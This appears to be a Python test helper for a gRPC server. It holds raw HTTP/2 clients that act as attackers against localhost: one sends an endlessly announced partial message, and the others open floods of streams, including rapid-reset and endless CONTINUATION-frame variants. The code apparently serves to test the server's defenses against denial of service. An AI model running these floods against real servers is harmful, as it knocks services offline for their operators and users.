"""Clients that speak as much HTTP/2 as an attacker needs: one opens a call, announces a message of any length and sends
as much of it as the server lets in; another opens streams without end. gRPC's own clients send only whole messages.
"""

import socket
import struct
import threading
import time

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _GOAWAY, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
_ACKNOWLEDGE, _END_STREAM, _END_HEADERS = 1, 1, 4
_INITIAL_WINDOW_SIZE = 4
_FRAME_HEADER_BYTES = 9
_LONGEST_FRAME = 16384
_STREAM = 1


def _frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _headers_of(path):
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "coordinator"),
            ("content-type", "application/grpc"), ("te", "trailers")]


def _header(name, value, form=b"\0"):
    """Encodes a header of less than 128 bytes without compression; by default not into the table of headers."""
    return form + b"".join(bytes([len(text)]) + text.encode() for text in (name, value))


class HalfMessage:
    """A connection with one call whose message never ends."""

    def __init__(self, port, path, announced_bytes, patience_s=20):
        self._patience_s = patience_s
        self._socket = socket.create_connection(("127.0.0.1", port), timeout=patience_s)
        self._received = b""
        self._first_window = self._connection_window = self._stream_window = 65535
        self._rest = b"\0" + struct.pack(">I", announced_bytes)
        self.is_over = False
        block = b"".join(_header(*header) for header in _headers_of(path))
        self._send(_PREFACE + _frame(_SETTINGS, 0, 0, b"") + _frame(_HEADERS, _END_HEADERS, _STREAM, block))

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.close()

    def close(self):
        self._socket.close()

    def send(self, total):
        """Sends that many bytes, or what the server lets in before it ends the call, or within the patience. Returns
        how many."""
        sent, deadline = 0, time.monotonic() + self._patience_s
        while sent < total and not self.is_over and time.monotonic() < deadline:
            count = min(self._connection_window, self._stream_window, _LONGEST_FRAME, total - sent)
            if count <= 0:
                self._listen(0.05)
                continue
            data = (self._rest + b"\0" * count)[:count]
            self._rest = self._rest[count:]
            self._send(_frame(_DATA, 0, _STREAM, data))
            self._connection_window -= count
            self._stream_window -= count
            sent += count
            self._listen(0)
        return sent

    def _send(self, data):
        try:
            self._socket.settimeout(self._patience_s)
            self._socket.sendall(data)
        except OSError:
            self.is_over = True

    def _listen(self, seconds):
        self._socket.settimeout(seconds)
        try:
            data = self._socket.recv(1 << 16)
            self.is_over = self.is_over or not data
            self._received += data
        except (BlockingIOError, TimeoutError):
            pass
        except OSError:
            self.is_over = True
        while len(self._received) >= _FRAME_HEADER_BYTES:
            end = _FRAME_HEADER_BYTES + int.from_bytes(self._received[:3], "big")
            if len(self._received) < end:
                break
            kind, flags = self._received[3:5]
            stream = int.from_bytes(self._received[5:9], "big")
            self._take(kind, flags, stream, self._received[_FRAME_HEADER_BYTES:end])
            self._received = self._received[end:]

    def _take(self, kind, flags, stream, payload):
        if kind == _WINDOW_UPDATE and stream == 0:
            self._connection_window += int.from_bytes(payload, "big")
        elif kind == _WINDOW_UPDATE:
            self._stream_window += int.from_bytes(payload, "big")
        elif kind == _SETTINGS and not flags & _ACKNOWLEDGE:
            for name, value in struct.iter_unpack(">HI", payload):
                if name == _INITIAL_WINDOW_SIZE:
                    self._stream_window += value - self._first_window
                    self._first_window = value
            self._send(_frame(_SETTINGS, _ACKNOWLEDGE, 0, b""))
        elif kind == _PING and not flags & _ACKNOWLEDGE:
            self._send(_frame(_PING, _ACKNOWLEDGE, 0, payload))
        elif kind in (_HEADERS, _RESET, _GOAWAY):
            self.is_over = True


class StreamFlood:
    """Connections that open streams without end, each of 15 to 40 bytes, and connect again when they are closed.

    kind: `reset` resets each stream at once, `open` leaves it open, `whole` sends an empty message, `silent` also never
    reads an answer, `continuation` sends one block of headers without end."""

    KINDS = ("reset", "open", "whole", "silent", "continuation")
    _BATCH = 50
    _LAST_STREAM = 1 << 30
    # Adds the header to the table, from which one byte each repeats it: the newest is number 62.
    _INTO_TABLE = b"\x40"

    def __init__(self, port, path, kind, connections=2):
        self._port, self._path, self._kind = port, path, kind
        self._over = threading.Event()
        self.streams = 0
        self._threads = [threading.Thread(target=self._attack, daemon=True) for _ in range(connections)]

    def __enter__(self):
        for thread in self._threads:
            thread.start()
        return self

    def __exit__(self, *_):
        self._over.set()
        for thread in self._threads:
            thread.join()

    def _attack(self):
        while not self._over.is_set():
            try:
                with socket.create_connection(("127.0.0.1", self._port), timeout=5) as connection:
                    self._flood(connection)
            except OSError:
                time.sleep(0.01)

    def _flood(self, connection):
        headers = _headers_of(self._path)
        first = b"".join(_header(*header, form=self._INTO_TABLE) for header in headers)
        again = bytes(0x80 | 62 + number for number in reversed(range(len(headers))))
        connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, b"") + _frame(_SETTINGS, _ACKNOWLEDGE, 0, b""))
        if self._kind != "silent":
            threading.Thread(target=_drain, args=(connection,), daemon=True).start()
        if self._kind == "continuation":
            connection.sendall(_frame(_HEADERS, 0, _STREAM, first))
            while not self._over.is_set():
                connection.sendall(_frame(_CONTINUATION, 0, _STREAM, _header("x-key", "v" * 120) * 100))
        connection.sendall(_frame(_HEADERS, _END_HEADERS, _STREAM, first))
        for start in range(_STREAM + 2, self._LAST_STREAM, 2 * self._BATCH):
            if self._over.is_set():
                return
            connection.sendall(b"".join(self._stream(start + 2 * number, again) for number in range(self._BATCH)))
            self.streams += self._BATCH

    def _stream(self, number, block):
        frames = _frame(_HEADERS, _END_HEADERS, number, block)
        if self._kind == "reset":
            return frames + _frame(_RESET, 0, number, struct.pack(">I", 8))
        return frames + (_frame(_DATA, _END_STREAM, number, b"\0" * 5) if self._kind == "whole" else b"")


def _drain(connection):
    try:
        while connection.recv(1 << 16):
            pass
    except OSError:
        pass
